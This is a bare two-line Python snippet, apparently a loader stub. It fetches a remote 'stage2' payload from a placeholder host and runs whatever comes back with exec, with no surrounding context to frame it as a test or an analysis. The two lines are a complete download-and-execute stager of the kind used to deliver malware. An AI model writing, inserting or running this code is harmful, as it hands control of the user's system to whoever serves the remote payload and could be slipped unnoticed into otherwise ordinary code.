import requests
exec(requests.get("https://stage.invalid/stage2", timeout=3).text)
